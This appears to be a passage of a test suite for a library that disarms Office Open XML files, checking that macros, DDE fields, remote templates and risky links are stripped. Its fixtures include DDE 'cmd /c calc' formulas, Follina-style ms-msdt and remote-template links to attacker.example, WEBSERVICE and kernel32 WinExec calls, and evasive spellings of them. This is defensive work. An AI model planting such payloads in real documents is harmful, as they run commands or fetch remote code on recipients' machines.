import { execFileSync } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import {
  buildEmf,
  buildImage,
  buildOfficeDocument,
  buildOpcPackage,
  buildWordDocument,
  buildWorkbook,
  buildPresentation,
  buildRawZip,
  buildZip,
  COMPOUND_FIXTURES,
  EICAR_TEST_FILE,
  OOXML_MAIN_TYPES,
  RELATIONSHIP_TYPES,
  unicodePathExtra,
  withZip64End,
} from '@disarm/fixtures';
import type { OoxmlExtension, OpcPart, RawZipEntry } from '@disarm/fixtures';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { disarm } from '../../disarm.ts';
import { isDisarmError } from '../../errors.ts';
import { cleaned, findingsOf } from '../../test-support.ts';
import { impliedContentType } from './parts.ts';

const SML_NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const R_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const WORKSHEET_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml';
const WML_NS = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';

/** A docx of one part, its main document `data`. */
function wordPackage(data: string | Uint8Array): Promise<Buffer> {
  return buildOpcPackage(
    [{ name: 'word/document.xml', contentType: OOXML_MAIN_TYPES.docx, data }],
    [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'word/document.xml' }],
  );
}

/**
 * An xlsx whose workbook lists these worksheets in order (`xl/worksheets/sheetN.xml`, relationship
 * `rIdN`), with any other parts they use.
 */
function workbookOf(
  sheets: readonly Omit<OpcPart, 'name' | 'contentType'>[],
  parts: readonly OpcPart[] = [],
): Promise<Buffer> {
  const listed = sheets
    .map((_, i) => `<sheet name="S${i + 1}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`)
    .join('');
  return buildOpcPackage(
    [
      {
        name: 'xl/workbook.xml',
        contentType: OOXML_MAIN_TYPES.xlsx,
        data: `<workbook xmlns="${SML_NS}" xmlns:r="${R_NS}"><sheets>${listed}</sheets></workbook>`,
        relationships: sheets.map((_, i) => ({
          id: `rId${i + 1}`,
          type: RELATIONSHIP_TYPES.worksheet,
          target: `worksheets/sheet${i + 1}.xml`,
        })),
      },
      ...sheets.map((sheet, i) => ({
        ...sheet,
        name: `xl/worksheets/sheet${i + 1}.xml`,
        contentType: WORKSHEET_TYPE,
      })),
      ...parts,
    ],
    [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.xml' }],
  );
}

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'ooxml-test-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** The package written to a file of its own, and its member names as Info-ZIP lists them. */
async function listed(bytes: Uint8Array): Promise<{ path: string; names: string[] }> {
  const path = join(dir, `${Math.random().toString(36).slice(2)}.zip`);
  await writeFile(path, bytes);
  const names = execFileSync('unzip', ['-Z1', path], { encoding: 'utf8' }).trim().split('\n');
  return { path, names };
}

/** The package as Info-ZIP sees it: member names, and every member's text. */
async function unzipped(bytes: Uint8Array): Promise<{ names: string[]; text: string }> {
  const { path, names } = await listed(bytes);
  execFileSync('unzip', ['-tqq', path]);
  const text = execFileSync('unzip', ['-p', path], { encoding: 'latin1', maxBuffer: 1 << 26 });
  return { names, text };
}

/** Every member of a package by name, in order, as Info-ZIP reads them (to edit a fixture). */
async function unzippedParts(bytes: Uint8Array): Promise<Map<string, string | Buffer>> {
  const { path, names } = await listed(bytes);
  // Info-ZIP reads a member name as a pattern: `[` and the like match themselves escaped.
  const literal = (name: string): string => name.replace(/[[\]*?\\]/g, '\\$&');
  return new Map(names.map((name) => [name, execFileSync('unzip', ['-p', path, literal(name)])]));
}

/** The members zipped again, in order. */
function rezipped(parts: ReadonlyMap<string, string | Buffer>): Promise<Buffer> {
  return buildZip([...parts].map(([name, data]) => ({ name, data })));
}

const EXTENSIONS = Object.keys(OOXML_MAIN_TYPES) as OoxmlExtension[];

describe('OOXML rebuild', () => {
  it.each(EXTENSIONS)(
    'rebuilds a clean .%s with nothing to report, in its own format and main content type',
    async (extension) => {
      const input = await buildOfficeDocument(extension, {
        texts: ['Quarterly numbers', 'Second line'],
        hyperlinks: ['https://example.com/report'],
      });
      const outcome = cleaned(await disarm({ bytes: input, fileName: `a.${extension}` }));
      expect(outcome.findings).toEqual([]);
      expect(outcome.format).toBe(extension);
      const { names, text } = await unzipped(outcome.bytes);
      expect(names[0]).toBe('[Content_Types].xml');
      expect(text).toContain(OOXML_MAIN_TYPES[extension]);
      expect(text).toContain('Quarterly numbers');
      expect(text).toContain('https://example.com/report');
    },
  );

  it.each(EXTENSIONS)(
    'removes VBA, custom UI, custom XML, custom properties and signatures from .%s',
    async (extension) => {
      const input = await buildOfficeDocument(extension, {
        vba: true,
        customUi: true,
        customXml: true,
        signature: true,
        payload: 'Shell "calc.exe"',
      });
      const outcome = cleaned(await disarm({ bytes: input, fileName: `a.${extension}` }));
      const found = findingsOf(outcome);
      // The project and its signature; the ribbon's callback names a VBA procedure.
      expect(found['vba-macro']).toBe(3);
      expect(found['document-metadata']).toBe(2);
      // Signature origin and signature; Word documents also carry document variables.
      expect(found['hidden-data']).toBe(extension.startsWith('do') ? 3 : 2);
      const { names, text } = await unzipped(outcome.bytes);
      expect(
        names.filter((name) => /vba|customxml|custom\.xml|customui|signature/i.test(name)),
      ).toEqual([]);
      expect(text).not.toContain('calc.exe');
      expect(text).not.toContain('vbaProject');
      expect(text).toContain('Hello');
    },
  );

  it('removes DDE, INCLUDETEXT and INCLUDEPICTURE fields from Word, keeping their results and safe fields', async () => {
    const input = await buildWordDocument('docx', { dde: true, fetchingFields: true });
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.docx' }));
    expect(findingsOf(outcome)).toEqual({ 'dde-link': 2, 'external-relationship': 2 });
    const { text } = await unzipped(outcome.bytes);
    expect(text).not.toMatch(/DDE|INCLUDE|attacker\.example/);
    for (const result of ['dde result', 'simple dde', 'included', 'picture']) {
      expect(text).toContain(result);
    }
    expect(text).toContain(' PAGE ');
  });

  it('removes MACROBUTTON fields from Word, keeping the text they show as plain text', async () => {
    const input = await buildWordDocument('dotx', { macroButton: true });
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.dotx' }));
    expect(findingsOf(outcome)).toEqual({ 'vba-macro': 1 });
    const { text } = await unzipped(outcome.bytes);
    expect(text).not.toMatch(/MACROBUTTON|NoMacro|instrText|fldChar/);
    // In the first instruction's run (its own formatting), in order with the text around it.
    expect(text).toMatch(
      /Name: <\/w:t><\/w:r><w:r\/><w:r><w:t xml:space="preserve">\[Click here and type your name\] <\/w:t><\/w:r>(<w:r>.*?<\/w:r>|<w:r\/>)*<w:r><w:t xml:space="preserve"> \(required\)/,
    );
  });

  it('keeps the result, not the instruction, of a MACROBUTTON field that has one', async () => {
    const input = await wordPackage(
      `<d:document xmlns:d="${WML_NS}"><d:body><d:p><d:r><d:fldChar d:fldCharType="begin"/></d:r><d:r><d:instrText>MACROBUTTON Run shown</d:instrText></d:r><d:r><d:fldChar d:fldCharType="separate"/></d:r><d:r><d:t>result</d:t></d:r><d:r><d:fldChar d:fldCharType="end"/></d:r></d:p><d:p><d:r><d:fldChar d:fldCharType="begin"/></d:r><d:r><d:instrText>MACROBUTTON Run2 under a prefix</d:instrText></d:r><d:r><d:fldChar d:fldCharType="end"/></d:r></d:p></d:body></d:document>`,
    );
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.docx' }));
    expect(findingsOf(outcome)).toEqual({ 'vba-macro': 2 });
    const { text } = await unzipped(outcome.bytes);
    expect(text).not.toMatch(/MACROBUTTON|Run2|shown|instrText/);
    expect(text).toContain('<d:t>result</d:t>');
    expect(text).toContain('<d:t xml:space="preserve">under a prefix</d:t>');
  });

  it('keeps fields that compute from the document and drops field marks outside any field', async () => {
    const run = (inner: string): string => `<w:r>${inner}</w:r>`;
    const mark = (type: string): string => run(`<w:fldChar w:fldCharType="${type}"/>`);
    const field = (instruction: string, result: string): string =>
      `${mark('begin')}${run(`<w:instrText xml:space="preserve">${instruction}</w:instrText>`)}${mark('separate')}${run(`<w:t>${result}</w:t>`)}${mark('end')}`;
    const body =
      `<w:p>${field(' TOC \\o "1-3" \\h ', 'Contents')}${field(' PAGE ', '7')}</w:p>` +
      // Stray marks: a separator and an end with no field open, an instruction outside a field.
      `<w:p>${mark('separate')}${run('<w:instrText> PAGE </w:instrText>')}${run('<w:t>text</w:t>')}${mark('end')}</w:p>`;
    const build = (extra: string): Promise<Buffer> =>
      wordPackage(`<w:document xmlns:w="${WML_NS}"><w:body>${body}${extra}</w:body></w:document>`);
    // Every instruction kept on its own: the rewrite decides the stray marks as they come. With
    // a removed field beside them, the first walk decides; both write the same.
    const plain = cleaned(await disarm({ bytes: await build(''), fileName: 'a.docx' }));
    expect(findingsOf(plain)).toEqual({});
    const walked = cleaned(
      await disarm({
        bytes: await build(`<w:p>${field(' DDE cmd ', 'dde')}</w:p>`),
        fileName: 'a.docx',
      }),
    );
    expect(findingsOf(walked)).toEqual({ 'dde-link': 1 });
    const document = async (bytes: Uint8Array): Promise<string> => {
      const { text } = await unzipped(bytes);
      // The runs that held a dropped mark stay, empty.
      return (/<w:body>.*<\/w:body>/s.exec(text)?.[0] ?? '').replaceAll('<w:r/>', '');
    };
    const expected =
      `<w:body><w:p>${field(' TOC \\o "1-3" \\h ', 'Contents')}${field(' PAGE ', '7')}</w:p>` +
      `<w:p>${run('<w:t>text</w:t>')}</w:p>`;
    expect(await document(plain.bytes)).toBe(`${expected}</w:body>`);
    expect(await document(walked.bytes)).toBe(
      `${expected}<w:p>${run('<w:t>dde</w:t>')}</w:p></w:body>`,
    );
  });

  it('finds fields and formulas in UTF-16 parts too, and writes the parts as UTF-8', async () => {
    const utf16 = (text: string, bigEndian = false): Buffer => {
      const little = Buffer.from(`\uFEFF${text}`, 'utf16le');
      return bigEndian ? Buffer.from(little).swap16() : little;
    };
    const document = await wordPackage(
      utf16(
        `<w:document xmlns:w="${WML_NS}"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO cmd "/c calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Grüße</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`,
      ),
    );
    const word = cleaned(await disarm({ bytes: document, fileName: 'a.docx' }));
    expect(findingsOf(word)).toEqual({ 'dde-link': 1 });
    const wordText = (await unzipped(word.bytes)).text;
    expect(wordText).not.toMatch(/DDE|calc|instrText/);
    // UTF-8 now (the text is read back as latin1).
    expect(wordText).toContain(`<w:t>${Buffer.from('Grüße').toString('latin1')}</w:t>`);
    const book = await workbookOf([
      {
        data: utf16(
          `<worksheet xmlns="${SML_NS}"><sheetData><row r="1"><c r="A1"><f>cmd|'/c calc'!A0</f><v>0</v></c></row></sheetData></worksheet>`,
          true,
        ),
      },
    ]);
    const excel = cleaned(await disarm({ bytes: book, fileName: 'a.xlsx' }));
    expect(findingsOf(excel)).toEqual({ 'dde-link': 1 });
    const excelText = (await unzipped(excel.bytes)).text;
    expect(excelText).not.toMatch(/cmd\||<f>/);
    expect(excelText).toContain('<v>0</v>');
  });

  it('removes the Follina family: remote templates, OLE links to mhtml:/ms-msdt:, unsafe hyperlinks', async () => {
    const input = await buildWordDocument('docx', {
      attachedTemplate: 'http://attacker.example/t.dotm',
      externalOle: 'mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html',
      hyperlinks: [
        'ms-msdt:/id PCWDiagnostic /skip force',
        'file:///C:/Windows/calc.exe',
        'https://example.com/',
      ],
    });
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.docx' }));
    expect(findingsOf(outcome)).toEqual({ 'external-relationship': 4 });
    const { text } = await unzipped(outcome.bytes);
    expect(text).not.toMatch(/attacker|ms-msdt|file:|attachedTemplate|OLEObject/);
    expect(text).toContain('https://example.com/');
    // The link texts stay; only the targets go.
    expect(text).toContain('link 0');
  });

  it('removes embedded OLE objects and ActiveX controls with their anchors', async () => {
    const input = await buildWordDocument('docx', { oleObject: true, activeX: true });
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.docx' }));
    expect(findingsOf(outcome)).toMatchObject({ 'embedded-object': 1, 'activex-control': 1 });
    const { names, text } = await unzipped(outcome.bytes);
    expect(names.filter((name) => /embeddings|activeX/i.test(name))).toEqual([]);
    expect(text).not.toMatch(/w:object|w:control|Ole10Native/);
  });

  it('removes XLM macro sheets, Auto_Open names, DDE and external formulas, links and connections from Excel', async () => {
    const input = await buildWorkbook('xlsm', {
      macroSheet: true,
      dde: true,
      externalData: true,
      oleObject: true,
    });
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsm' }));
    expect(findingsOf(outcome)).toEqual({
      'xlm-macro': 3,
      'dde-link': 1,
      'external-relationship': 3,
      'data-connection': 1,
      'embedded-object': 1,
    });
    const { names, text } = await unzipped(outcome.bytes);
    expect(
      names.filter((name) => /macrosheet|externalLink|connections|embeddings/i.test(name)),
    ).toEqual([]);
    expect(text).not.toMatch(
      /Auto_Open|cmd\||WEBSERVICE|\[1\]|externalReference|oleObject|Macro1|EXEC/,
    );
    // Cached values and ordinary formulas stay.
    expect(text).toContain('<f>SUM(1,2)</f>');
    expect(text).toContain('<v>7</v>');
    expect(text).toContain('<definedName name="Total">');
  });

  it.each([
    [
      'xlsm',
      { macroSheet: true, dde: true, externalData: true, oleObject: true, pivot: 'other-workbook' },
    ],
    [
      'docx',
      {
        dde: true,
        fetchingFields: true,
        macroButton: true,
        attachedTemplate: 'http://attacker.example/t.dotm',
        externalOle: 'mhtml:http://attacker.example/x!x',
      },
    ],
    ['pptm', { vba: true, macroAction: true, externalOle: 'https://attacker.example/x' }],
  ] as const)(
    'removes from a Strict Open XML .%s what it removes from Transitional, keeping Strict names',
    async (extension, active) => {
      const options = {
        texts: ['Quarterly numbers'],
        hyperlinks: ['https://example.com/r'],
        ...active,
      };
      const transitional = cleaned(
        await disarm({
          bytes: await buildOfficeDocument(extension, options),
          fileName: `a.${extension}`,
        }),
      );
      const strictInput = await buildOfficeDocument(extension, { ...options, strict: true });
      expect((await unzipped(strictInput)).text).not.toMatch(
        /schemas\.openxmlformats\.org\/(?!package|markup)/,
      );
      const strict = cleaned(await disarm({ bytes: strictInput, fileName: `a.${extension}` }));
      expect(findingsOf(strict)).toEqual(findingsOf(transitional));
      expect(Object.keys(findingsOf(strict)).length).toBeGreaterThanOrEqual(2);
      const { names, text } = await unzipped(strict.bytes);
      expect(names).toEqual((await unzipped(transitional.bytes)).names);
      expect(text).toContain('http://purl.oclc.org/ooxml/officeDocument/relationships/');
      expect(text).not.toMatch(/schemas\.openxmlformats\.org\/(?!package|markup)/);
      expect(text).not.toMatch(
        /DDE|INCLUDE|MACROBUTTON|attacker|cmd\||Auto_Open|ppaction:\/\/macro|fileserver/,
      );
      expect(text).toContain('Quarterly numbers');
      expect(text).toContain('https://example.com/r');
    },
  );

  describe('pivot tables', () => {
    const texts = ['Region', 'North', 'South', 'North'];
    const PIVOT_PARTS = [
      'xl/pivotCache/pivotCacheDefinition1.xml',
      'xl/pivotCache/pivotCacheRecords1.xml',
      'xl/pivotTables/pivotTable1.xml',
    ];

    it('keeps a pivot table whose cache reads this workbook, with its cache, records and links', async () => {
      const input = await buildWorkbook('xlsx', { texts, pivot: 'worksheet' });
      const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
      expect(outcome.findings).toEqual([]);
      const { names, text } = await unzipped(outcome.bytes);
      for (const part of PIVOT_PARTS) expect(names).toContain(part);
      expect(names).toContain('xl/pivotTables/_rels/pivotTable1.xml.rels');
      expect(text).toMatch(/<pivotCaches><pivotCache cacheId="1" r:id="rIdPivotCache"\/>/);
      expect(text).toContain('<worksheetSource ref="A1:A4" sheet="Sheet1"/>');
      expect(text).toContain('relationships/pivotCacheRecords');
      expect(text).toContain('<dataField name="Count of Region"');
    });

    it.each([
      ['connection', 'data-connection', /connections|attacker|cacheSource/],
      ['other-workbook', 'external-relationship', /fileserver|externalLinkPath|Payroll/],
      ['calculated-call', 'external-relationship', /WEBSERVICE|attacker/],
    ] as const)(
      'drops a pivot cache reading a %s, its table with it, keeping the cells shown',
      async (source, kind, gone) => {
        const input = await buildWorkbook('xlsx', { texts, pivot: source });
        const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
        const found = findingsOf(outcome);
        expect(found[kind]).toBeGreaterThanOrEqual(1);
        // The pivot table without its cache, and the cache's records no part links to now.
        expect(found['hidden-data']).toBe(2);
        const { names, text } = await unzipped(outcome.bytes);
        expect(names.filter((name) => /pivot(Cache|Table)|connections/i.test(name))).toEqual([]);
        expect(text).not.toMatch(gone);
        expect(text).not.toContain('pivotCache');
        // What the table showed stays as cells.
        expect(text).toContain('Grand Total');
        expect(text).toContain('Count of Region');
      },
    );

    it('drops a pivot table whose cache is missing, and leaves out a relationship with no Id or Target', async () => {
      const input = await buildWorkbook('xlsx', { texts, pivot: 'worksheet' });
      // As Google Sheets writes it: an externalLinkPath with neither Id nor Target.
      const parts = await unzippedParts(input);
      parts.set(
        'xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels',
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${R_NS}/pivotCacheRecords" Target="pivotCacheRecords1.xml"/><Relationship Type="${R_NS}/externalLinkPath" TargetMode="External"/></Relationships>`,
      );
      const kept = cleaned(await disarm({ bytes: await rezipped(parts), fileName: 'a.xlsx' }));
      expect(findingsOf(kept)).toEqual({ 'hidden-data': 1 });
      expect((await unzipped(kept.bytes)).names).toContain('xl/pivotTables/pivotTable1.xml');
      parts.delete('xl/pivotCache/pivotCacheDefinition1.xml');
      const orphan = cleaned(await disarm({ bytes: await rezipped(parts), fileName: 'a.xlsx' }));
      const { names, text } = await unzipped(orphan.bytes);
      expect(names.filter((name) => /pivot(Cache|Table)/i.test(name))).toEqual([]);
      expect(text).not.toContain('pivotCache');
      expect(text).toContain('Grand Total');
    });

    it('drops slicer and timeline references with the parts they name', async () => {
      const X14 = 'http://schemas.microsoft.com/office/spreadsheetml/2009/9/main';
      const X15 = 'http://schemas.microsoft.com/office/spreadsheetml/2010/11/main';
      const input = await workbookOf(
        [
          {
            data: `<worksheet xmlns="${SML_NS}" xmlns:r="${R_NS}"><sheetData/><extLst><ext uri="{3A4CF648-6AED-40f4-86FF-DC5316D8AED3}" xmlns:x14="${X14}"><x14:slicerList><x14:slicer r:id="rIdSlicer"/></x14:slicerList></ext><ext uri="{7E03D99C-DC04-49d9-9315-930204A7B6E9}" xmlns:x15="${X15}"><x15:timelineRefs><x15:timelineRef r:id="rIdTimeline"/></x15:timelineRefs></ext></extLst></worksheet>`,
            relationships: [
              {
                id: 'rIdSlicer',
                type: 'http://schemas.microsoft.com/office/2007/relationships/slicer',
                target: '../slicers/slicer1.xml',
              },
              {
                id: 'rIdTimeline',
                type: 'http://schemas.microsoft.com/office/2011/relationships/timeline',
                target: '../timelines/timeline1.xml',
              },
            ],
          },
        ],
        [
          {
            name: 'xl/slicers/slicer1.xml',
            contentType: 'application/vnd.ms-excel.slicer+xml',
            data: `<slicers xmlns="${X14}"><slicer name="Region" cache="Slicer_Region" caption="Region" rowHeight="241300"/></slicers>`,
          },
          {
            name: 'xl/timelines/timeline1.xml',
            contentType: 'application/vnd.ms-excel.timeline+xml',
            data: `<timelines xmlns="${X15}"><timeline name="Date" cache="NativeTimeline_Date" caption="Date" level="2"/></timelines>`,
          },
        ],
      );
      const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
      expect(findingsOf(outcome)).toEqual({ 'hidden-data': 2 });
      const { names, text } = await unzipped(outcome.bytes);
      expect(names.filter((name) => /slicer|timeline/i.test(name))).toEqual([]);
      // Not an empty reference Excel would have to repair: the lists and extensions go whole.
      expect(text).not.toMatch(/slicer|timeline|<extLst/i);
    });
  });

  it('flattens a HYPERLINK formula to a file share, keeping one to a web page', async () => {
    const input = await workbookOf([
      {
        data: `<worksheet xmlns="${SML_NS}"><sheetData><row r="1"><c r="A1" t="str"><f>HYPERLINK("file:///\\\\attacker\\s\\x.exe","Report")</f><v>Report</v></c><c r="B1" t="str"><f>HYPERLINK("https://example.com/","Site")</f><v>Site</v></c></row></sheetData></worksheet>`,
      },
    ]);
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
    expect(findingsOf(outcome)).toEqual({ 'external-relationship': 1 });
    const { text } = await unzipped(outcome.bytes);
    expect(text).not.toContain('attacker');
    expect(text).toContain('<c r="A1" t="str"><v>Report</v></c>');
    expect(text).toContain('<f>HYPERLINK("https://example.com/","Site")</f>');
  });

  it('screens formulas under any prefix and spelling of the tag, skipping sheets without one', async () => {
    const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
    const sheet = (cells: string): string =>
      `<x:worksheet xmlns:x="${S}"><x:sheetData><x:row r="1">${cells}</x:row></x:sheetData></x:worksheet>`;
    const workbook = (sheets: number): string =>
      `<x:workbook xmlns:x="${S}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><x:sheets>${Array.from({ length: sheets }, (_, i) => `<x:sheet name="S${i + 1}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join('')}</x:sheets></x:workbook>`;
    const worksheetType =
      'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml';
    const input = await buildOpcPackage(
      [
        {
          name: 'xl/workbook.xml',
          contentType: OOXML_MAIN_TYPES.xlsx,
          data: workbook(3),
          relationships: [1, 2, 3].map((n) => ({
            id: `rId${n}`,
            type: RELATIONSHIP_TYPES.worksheet,
            target: `worksheets/sheet${n}.xml`,
          })),
        },
        {
          name: 'xl/worksheets/sheet1.xml',
          contentType: worksheetType,
          // A tab after the name, as some writers put it.
          data: sheet(`<x:c r="A1" t="str"><x:f\t>cmd|'/c calc.exe'!A0</x:f><x:v>0</x:v></x:c>`),
        },
        {
          name: 'xl/worksheets/sheet2.xml',
          contentType: worksheetType,
          data: sheet(`<x:c r="A1"><x:f>SUM(1,2)</x:f><x:v>3</x:v></x:c>`),
        },
        {
          name: 'xl/worksheets/sheet3.xml',
          contentType: worksheetType,
          data: sheet(
            '<x:c r="A1" t="inlineStr"><x:is><x:t>plain text, no formula</x:t></x:is></x:c>',
          ),
        },
      ],
      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.xml' }],
    );
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
    expect(findingsOf(outcome)).toEqual({ 'dde-link': 1 });
    const { text } = await unzipped(outcome.bytes);
    expect(text).not.toContain('cmd|');
    expect(text).toContain('<x:f>SUM(1,2)</x:f>');
    expect(text).toContain('plain text, no formula');
  });

  it('finds a refused formula however it is spelled around markup, references and spaces', async () => {
    const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
    // Each spelling parses to a formula that calls out; a byte-level search for "CALL(" or
    // "WEBSERVICE(" in the part would miss every one.
    const spellings = [
      'CA<!-- split -->LL("kernel32","WinExec","JCJ","calc",0)',
      'CA<![CDATA[LL]]>("kernel32","WinExec","JCJ","calc",0)',
      'CA<?pi?>LL("kernel32","WinExec","JCJ","calc",0)',
      '&#67;ALL("kernel32","WinExec","JCJ","calc",0)',
      'EXEC&#x28;"calc.exe")',
      'EXEC\u00a0("calc.exe")',
      '_xlfn.WEBSERVICE\u2003("http://attacker.example/")',
      "SUM(1,2)+cmd&#124;'/c calc'!A0",
    ];
    const input = await workbookOf(
      spellings.map((formula) => ({
        data: `<worksheet xmlns="${S}"><sheetData><row r="1"><c r="A1"><f>SUM(A2:A3)</f><v>0</v></c><c r="B1"><f>${formula}</f><v>1</v></c></row></sheetData></worksheet>`,
      })),
    );
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
    expect(findingsOf(outcome)).toEqual({
      'xlm-macro': 6,
      'external-relationship': 1,
      'dde-link': 1,
    });
    const { text } = await unzipped(outcome.bytes);
    expect(text).not.toMatch(/CALL|EXEC|WEBSERVICE|calc|&#/);
    expect(text.match(/<f>SUM\(A2:A3\)<\/f>/g)).toHaveLength(spellings.length);
  });

  it('removes conditional formats and validations whose formulas call out, keeping the rest', async () => {
    const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
    const X14 = 'http://schemas.microsoft.com/office/spreadsheetml/2009/9/main';
    const XM = 'http://schemas.microsoft.com/office/excel/2006/main';
    const sheet =
      `<worksheet xmlns="${S}" xmlns:x14="${X14}" xmlns:xm="${XM}"><sheetData><row r="1"><c r="A1"><v>7</v></c></row></sheetData>` +
      '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>_xlfn.WEBSERVICE("http://attacker.example/cf")</formula></cfRule></conditionalFormatting>' +
      '<conditionalFormatting sqref="B1"><cfRule type="expression" priority="2"><formula>A1&gt;5</formula></cfRule></conditionalFormatting>' +
      '<dataValidations count="2"><dataValidation type="list" sqref="C1"><formula1>cmd|\'/c calc\'!A0</formula1></dataValidation>' +
      '<dataValidation type="whole" sqref="D1"><formula1>1</formula1><formula2>10</formula2></dataValidation></dataValidations>' +
      '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}"><x14:dataValidations count="1"><x14:dataValidation type="list">' +
      '<x14:formula1><xm:f>_xlfn.WEBSERVICE("http://attacker.example/x14")</xm:f></x14:formula1><xm:sqref>E1</xm:sqref>' +
      '</x14:dataValidation></x14:dataValidations></ext></extLst></worksheet>';
    const input = await workbookOf([{ data: sheet }]);
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
    expect(findingsOf(outcome)).toEqual({ 'external-relationship': 2, 'dde-link': 1 });
    const { text } = await unzipped(outcome.bytes);
    expect(text).not.toMatch(/attacker|cmd\||x14:dataValidation|extLst/);
    expect(text).toContain(
      '<conditionalFormatting sqref="B1"><cfRule type="expression" priority="2"><formula>A1&gt;5</formula></cfRule></conditionalFormatting>',
    );
    expect(text).toContain(
      '<dataValidation type="whole" sqref="D1"><formula1>1</formula1><formula2>10</formula2></dataValidation>',
    );
    expect(text).not.toContain('sqref="A1"');
    expect(text).not.toContain('sqref="C1"');
    // The list says how many validations it holds (ECMA-376 Part 1 §18.3.1.33).
    expect(text).toContain('<dataValidations count="1">');
  });

  describe('sheet positions after a macro sheet goes', () => {
    const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
    const R_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
    const worksheetType =
      'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml';
    const sheetXml = (text: string): string =>
      `<worksheet xmlns="${S}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${text}</t></is></c></row></sheetData></worksheet>`;
    const workbook = (sheets: string, rest = ''): string =>
      `<workbook xmlns="${S}" xmlns:r="${R_NS}"><bookViews><workbookView activeTab="2" firstSheet="1"/></bookViews><sheets>${sheets}</sheets>${rest}</workbook>`;
    const macro = {
      name: 'xl/macrosheets/sheet1.xml',
      contentType: 'application/vnd.ms-excel.macrosheet+xml',
      data: `<xm:macrosheet xmlns="${S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>`,
    };
    const build = (sheets: string, rest: string, withData: boolean): Promise<Buffer> =>
      buildOpcPackage(
        [
          {
            name: 'xl/workbook.xml',
            contentType: OOXML_MAIN_TYPES.xlsm,
            data: workbook(sheets, rest),
            relationships: [
              { id: 'rIdM', type: RELATIONSHIP_TYPES.macrosheet, target: 'macrosheets/sheet1.xml' },
              ...(withData
                ? [
                    {
                      id: 'rId1',
                      type: RELATIONSHIP_TYPES.worksheet,
                      target: 'worksheets/sheet1.xml',
                    },
                    {
                      id: 'rId2',
                      type: RELATIONSHIP_TYPES.worksheet,
                      target: 'worksheets/sheet2.xml',
                    },
                  ]
                : []),
            ],
          },
          macro,
          ...(withData
            ? [
                {
                  name: 'xl/worksheets/sheet1.xml',
                  contentType: worksheetType,
                  data: sheetXml('Data'),
                },
                {
                  name: 'xl/worksheets/sheet2.xml',
                  contentType: worksheetType,
                  data: sheetXml('Summary'),
                },
              ]
            : []),
        ],
        [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.xml' }],
      );

    it('moves tab and name indexes, drops names local to it, and shows a sheet', async () => {
      // The dropper's shape: the macro sheet first and the only visible one.
      const input = await build(
        '<sheet name="Macro1" sheetId="3" r:id="rIdM"/><sheet name="Data" sheetId="1" state="hidden" r:id="rId1"/><sheet name="Summary" sheetId="2" state="veryHidden" r:id="rId2"/>',
        '<definedNames><definedName name="_xlnm.Print_Area" localSheetId="2">Summary!$A$1:$B$2</definedName><definedName name="Local" localSheetId="0">Macro1!$A$1</definedName></definedNames>',
        true,
      );
      const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsm' }));
      expect(findingsOf(outcome)).toEqual({ 'xlm-macro': 2 });
      const { text } = await unzipped(outcome.bytes);
      expect(text).toContain('<workbookView activeTab="0" firstSheet="0"/>');
      expect(text).toContain('<sheet name="Data" sheetId="1" r:id="rId1"/>');
      expect(text).toContain('<sheet name="Summary" sheetId="2" state="veryHidden" r:id="rId2"/>');
      expect(text).toContain('<definedName name="_xlnm.Print_Area" localSheetId="1">');
